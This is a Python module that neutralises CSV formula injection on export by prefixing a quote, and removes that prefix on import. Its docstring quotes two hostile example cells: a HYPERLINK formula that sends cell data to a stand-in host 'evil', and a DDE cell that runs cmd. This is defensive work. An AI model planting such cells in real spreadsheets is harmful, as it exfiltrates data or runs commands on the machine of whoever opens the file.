"""CSV cells that a spreadsheet cannot run: formula injection, neutralised on export.

A plan's texts come from Jet or from uploads, so anyone who can write a
story can make a cell read `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0`;
Excel, LibreOffice and Google Sheets run such a cell when the exported file is
opened. OWASP's advice: a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading `'`, which spreadsheets show as text. The
full-width forms count too (East Asian Excel reads U+FF1D as `=`). Import undoes
exactly that prefix, so an exported file imports back unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
QUOTE = "'"


def neutralise(cell: str) -> str:
    return QUOTE + cell if cell.startswith(FORMULA_STARTS) else cell


def restore(cell: str) -> str:
    """The text of an exported cell: the quote that `neutralise` added is taken off."""
    if cell.startswith(QUOTE) and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell
